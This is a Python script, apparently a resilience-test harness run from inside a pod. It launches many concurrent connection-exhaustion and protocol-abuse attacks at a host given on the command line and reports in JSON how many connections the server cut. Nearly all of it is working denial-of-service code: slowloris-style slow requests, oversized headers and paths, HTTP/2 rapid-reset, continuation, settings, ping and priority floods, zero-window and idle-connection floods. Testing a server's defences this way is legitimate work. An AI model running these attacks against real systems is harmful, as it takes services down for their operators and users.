"""Attacks a server from inside of a pod: HOST SECONDS KIND…, all kinds at once. Tells as JSON by kind how many connections were opened,
and how many of them the server ended.

Every attack is a row: what a connection says first, what it says again and again with which pause, whether it reads what it is told, and
whether a server must cut it off: such an attack lasts until that has happened. Whoever is cut off comes again.
"""

import asyncio
import json
import resource
import struct
import sys
from dataclasses import dataclass

HTTP, HTTPS = 80, 443
# For how long a server may leave an attack alone that it must cut off; it bounds a test that fails.
PATIENCE = 60
REQUEST = b"GET / HTTP/1.1\r\nhost: a.example\r\n"


@dataclass
class Attack:
    first: bytes
    again: bytes = b""
    pause: float = 0.1
    connections: int = 200
    port: int = HTTP
    reads: bool = True
    cut: bool = False


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field of HPACK that no table keeps, with a value of less than 127 bytes."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


# GET, http, / of HPACK's table, and an authority.
BLOCK = b"\x82\x86\x84" + b"\x01\x09a.example"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# A client that gives no room for answers: an initial window of nothing.
NO_ROOM = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0))
OPEN = PREFACE + frame(1, 4, 1, b"\x83" + BLOCK[1:])  # a POST whose body is still to come
RESETS = b"".join(frame(1, 5, stream, BLOCK) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(1, 2001, 2))
ATTACKS = {
    "slow head": Attack(REQUEST, b"x-a: b\r\n"),
    "slow body": Attack(b"POST / HTTP/1.1\r\nhost: a.example\r\ncontent-length: 1000000\r\n\r\n", b"x"),
    "slow hello": Attack(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\0", port=HTTPS),
    "slow preface": Attack(b"PRI * HT", b"", 0.5),
    "many fields": Attack(REQUEST, b"x-a: b\r\n" * 200, 0, 20, cut=True),
    "a long field": Attack(REQUEST + b"x-a: ", b"b" * 16384, 0, 20, cut=True),
    "a long path": Attack(b"GET /", b"b" * 16384, 0, 20, cut=True),
    "a long chunk line": Attack(b"POST / HTTP/1.1\r\nhost: a.example\r\ntransfer-encoding: chunked\r\n\r\n1;", b"b" * 16384, 0, 20, cut=True),
    "continuation flood": Attack(PREFACE + frame(1, 1, 1, BLOCK), frame(9, 0, 1, literal(b"x-a", b"b" * 100)) * 100, 0, 20, cut=True),
    "rapid reset": Attack(PREFACE + RESETS, b"", 0.1, 10, cut=True),
    "settings flood": Attack(PREFACE, frame(4, 0, 0) * 500, 0, 10),
    "ping flood": Attack(PREFACE, frame(6, 0, 0, b"\0" * 8) * 500, 0, 10, reads=False),
    "priority flood": Attack(OPEN, frame(2, 0, 1, b"\0\0\0\0\0") * 500, 0, 10, cut=True),
    "empty frames": Attack(OPEN, frame(0, 0, 1) * 500, 0, 10, cut=True),
    "no room": Attack(NO_ROOM + b"".join(frame(1, 5, stream, BLOCK) for stream in range(1, 201, 2)), b"", 0.5, 20),
    "deaf": Attack((REQUEST + b"\r\n") * 500, (REQUEST + b"\r\n") * 50, 0.05, 20, reads=False),
    "idle": Attack(b"", b"", 0.5, 5000),
}


class Attackers:
    def __init__(self, attack, host, seconds):
        self.attack, self.host = attack, host
        self.now = asyncio.get_running_loop().time
        self.end = self.now() + seconds
        self.opened, self.cut, self.refused = 0, 0, 0
        # A crowd that comes in one instant is not served by anybody's queue of connections.
        self.door = asyncio.Semaphore(200)

    async def run(self):
        await asyncio.gather(*(self.one() for _ in range(self.attack.connections)))
        return {"opened": self.opened, "cut": self.cut, "refused": self.refused}

    def lasts(self):
        missed = self.attack.cut and not self.cut
        return self.now() < self.end + (PATIENCE if missed else 0)

    async def one(self):
        while self.lasts():
            try:
                async with self.door:
                    reader, writer = await asyncio.open_connection(self.host, self.attack.port)
            except OSError:
                self.refused += 1
                await asyncio.sleep(0.1)
                continue
            self.opened += 1
            talking, hearing = asyncio.create_task(self.talk(writer)), asyncio.create_task(self.hear(reader))
            self.cut += await self.ended(talking, hearing)
            for task in (talking, hearing):
                task.cancel()
            await asyncio.gather(talking, hearing, return_exceptions=True)
            writer.transport.abort()
            await asyncio.sleep(0.02)

    async def ended(self, talking, hearing):
        """Whether the server ends the connection before the attack is over. Whoever does not read finds out by writing."""
        watched, over = {talking, hearing} if self.attack.reads else {talking}, set()
        while self.lasts() and not over:
            left = max(0.5, self.end - self.now())
            over, _ = await asyncio.wait(watched, timeout=left, return_when=asyncio.FIRST_COMPLETED)
        return bool(over)

    async def talk(self, writer):
        """Until the server is gone."""
        try:
            writer.write(self.attack.first)
            while True:
                await writer.drain()
                await asyncio.sleep(self.attack.pause)
                writer.write(self.attack.again)
        except OSError:
            return

    async def hear(self, reader):
        """Until the server has said its last."""
        try:
            while self.attack.reads and await reader.read(65536):
                pass
        except OSError:
            return


async def attack(host, seconds, *kinds):
    told = await asyncio.gather(*(Attackers(ATTACKS[kind], host, float(seconds)).run() for kind in kinds))
    return dict(zip(kinds, told))


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(asyncio.run(attack(*sys.argv[1:]))))
